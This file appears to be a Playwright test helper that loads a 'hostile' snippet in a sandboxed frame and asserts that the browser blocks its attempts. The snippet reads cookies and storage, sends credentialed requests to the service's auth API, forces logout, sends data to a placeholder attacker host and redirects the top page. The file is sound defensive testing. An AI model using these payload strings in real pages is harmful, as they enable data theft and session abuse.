import type { BrowserContext, FrameLocator, Page } from 'playwright-core';
import { expect } from 'vitest';

/**
 * A snippet with a button per attempt that writes the result of the attempt.
 * Attempts are function bodies with the parameters `service` and `attacker`.
 */
export const hostileSnippet = (
  attempts: Readonly<Record<string, string>>,
  { service, attacker }: { service: string; attacker: string },
): string => `<!doctype html><title>Hostile</title><body>
<script>
const [service, attacker] = ${JSON.stringify([service, attacker])};
const attempt = (name, act) => {
  const button = document.body.appendChild(document.createElement('button'));
  const result = document.body.appendChild(document.createElement('output'));
  button.textContent = name;
  result.id = name;
  button.onclick = async () => {
    try { result.textContent = 'done: ' + await act(); } catch (error) { result.textContent = 'failed: ' + error.name; }
  };
};
${Object.entries(attempts)
  .map(([name, act]) => `attempt(${JSON.stringify(name)}, async () => { ${act} });`)
  .join('\n')}
</script>`;

/** Attempts to reach what other pages store. */
export const reaches = {
  'read cookies': 'return document.cookie',
  'set a cookie': 'document.cookie = "a=b"',
  localStorage: 'return localStorage.draft',
  sessionStorage: 'sessionStorage.a = 1',
  IndexedDB: `return new Promise((done, failed) => {
    const request = indexedDB.open("a");
    request.onsuccess = () => done("opened");
    request.onerror = () => failed(request.error);
  })`,
  caches: 'await caches.open("a")',
  'a service worker': 'await navigator.serviceWorker.register("/worker.js")',
  'its parent': 'return parent.document.title',
  'the top': 'return top.document.body.innerHTML',
  'the address of the top': 'return top.location.href',
  'the frame around it': 'return frameElement.outerHTML',
};

/** Requests that tell the script whether they succeed. */
export const requests = {
  fetch: 'await fetch(service + "/api/auth/me", { credentials: "include" })',
  'fetch without CORS':
    'await fetch(service + "/api/auth/me", { credentials: "include", mode: "no-cors" })',
  'fetch elsewhere': 'await fetch(attacker + "/fetched")',
  XMLHttpRequest: `return new Promise((done, failed) => {
    const request = new XMLHttpRequest();
    request.open("GET", service + "/api/auth/me");
    request.withCredentials = true;
    request.onload = () => done(request.responseText);
    request.onerror = () => failed(new Error());
    request.send();
  })`,
  WebSocket: `return new Promise((done, failed) => {
    const socket = new WebSocket(attacker.replace("http", "ws"));
    socket.onopen = () => done("opened");
    socket.onerror = () => failed(new Error());
  })`,
  EventSource: `return new Promise((done, failed) => {
    const source = new EventSource(attacker + "/events");
    source.onopen = () => done("opened");
    source.onerror = () => failed(new Error());
  })`,
  'a worker that fetches': `return new Promise((done, failed) => {
    const code = "fetch('" + attacker + "/worker').then(() => postMessage('fetched'), () => postMessage('refused'))";
    const worker = new Worker(URL.createObjectURL(new Blob([code])));
    worker.onmessage = ({ data }) => data === "fetched" ? done(data) : failed(new Error(data));
    worker.onerror = () => failed(new Error());
  })`,
  'a frame of the service': `return new Promise((done, failed) => {
    const frame = document.body.appendChild(document.createElement("iframe"));
    frame.onload = () => {
      try { done(frame.contentDocument.title) } catch (error) { failed(error) }
    };
    frame.src = service + "/account";
  })`,
};

/** Requests without a result for the script. */
export const silentRequests = {
  sendBeacon: 'navigator.sendBeacon(service + "/api/auth/logout", "{}")',
  'a form': `const form = document.body.appendChild(document.createElement("form"));
    form.method = "post"; form.action = service + "/api/auth/logout"; form.submit()`,
  'a form to the top': `const form = document.body.appendChild(document.createElement("form"));
    form.method = "post"; form.action = attacker + "/form"; form.target = "_top"; form.submit()`,
  'a form in a new window': `const form = document.body.appendChild(document.createElement("form"));
    form.method = "post"; form.action = attacker + "/form"; form.target = "_blank"; form.submit()`,
  'a picture': 'new Image().src = attacker + "/picture?" + document.title',
  'a prefetch': `const link = document.head.appendChild(document.createElement("link"));
    link.rel = "prefetch"; link.href = attacker + "/prefetched"`,
  'an import': 'import(attacker + "/module.js").catch(() => {})',
  'its own address': 'location = attacker + "/moved"',
};

/** Attempts to move the page or its reader. */
export const moves = {
  'top.location': 'top.location = attacker',
  'parent.location.replace': 'parent.location.replace(attacker)',
  'top.close': 'top.close()',
  'open in the top': 'return String(open(attacker, "_top"))',
  'a link to the top': `const link = document.body.appendChild(document.createElement("a"));
    link.href = attacker; link.target = "_top"; link.click()`,
  'a link of the parent': `const link = document.body.appendChild(document.createElement("a"));
    link.href = attacker; link.target = "_parent"; link.click()`,
  'a base of the top': `document.head.appendChild(document.createElement("base")).target = "_top";
    const link = document.body.appendChild(document.createElement("a")); link.href = attacker; link.click()`,
  'a script in the top': 'top.location = "javascript:document.title=1"',
  'the history': 'history.pushState({}, "", service)',
  fullscreen: 'await document.documentElement.requestFullscreen()',
  'the pointer': 'await document.body.requestPointerLock()',
  clipboard: 'return navigator.clipboard.readText()',
  place: `return new Promise((done, failed) => navigator.geolocation.getCurrentPosition(
    () => done("here"), ({ code }) => failed(Object.assign(new Error(), { name: "code " + code }))))`,
};

/** Runs all attempts, one after another, and returns their results. */
export const resultsOf = async (
  attempts: Readonly<Record<string, string>>,
  attempt: (name: string) => Promise<string>,
) => {
  const results: Record<string, string> = {};
  for (const name of Object.keys(attempts)) results[name] = await attempt(name);
  return results;
};

interface Reader {
  readonly email: string;
  readonly password: string;
}

/** Signs a reader in to the service, by its page. */
export const signIn = async (page: Page, service: string, reader: Reader): Promise<void> => {
  await page.goto(`${service}/login?next=/account`);
  await page.getByLabel('Email').fill(reader.email);
  await page.getByLabel('Password', { exact: true }).fill(reader.password);
  await page.getByRole('button', { name: 'Sign in', exact: true }).click();
  await page.waitForURL(`${service}/account`);
};

/** Returns how to make an attempt of the snippet in a frame: its result follows. */
export const attemptIn =
  (frame: FrameLocator) =>
  async (name: string): Promise<string> => {
    await frame.getByRole('button', { name, exact: true }).click();
    const result = frame.locator(`output[id="${name}"]`);
    await result.filter({ hasText: /./ }).waitFor();
    return result.innerText();
  };

/** A page with a snippet that makes attempts. */
interface HostilePage {
  readonly page: Page;
  readonly context: BrowserContext;
  readonly frame: FrameLocator;
  readonly attempt: (name: string) => Promise<string>;
  readonly service: string;
  /** The requests that reached the attacker. */
  readonly asked: readonly string[];
}

/**
 * Makes all requests, each silent one on a new page, and checks that none reaches the service or the attacker. `depth` is
 * the number of frames around the snippet.
 */
export const expectNoRequests = async (
  { page, context, frame, attempt, service, asked }: HostilePage,
  depth: number,
): Promise<void> => {
  const responses: string[] = [];
  context.on('response', (response) => responses.push(new URL(response.url()).pathname));
  const results = await resultsOf(requests, attempt);
  expect(Object.values(results).filter((result) => !result.startsWith('failed'))).toEqual([]);
  for (const name of Object.keys(silentRequests)) {
    await page.reload();
    await frame.getByRole('button', { name, exact: true }).click();
    // Chromium shows an error page in the frame after blocking its navigation.
    const isOver = () =>
      page.frames().some((one) => one.url().startsWith('chrome-error:')) ||
      page.frames()[depth]?.locator(`output[id="${name}"]`, { hasText: /./ }).isVisible();
    await expect.poll(isOver, { message: name }).toBe(true);
  }
  // Earlier requests would have arrived before this one.
  await page.request.get(`${service}/health`);
  expect(asked).toEqual([]);
  expect(responses.filter((path) => path === '/account' || path.startsWith('/api/'))).toEqual([]);
};
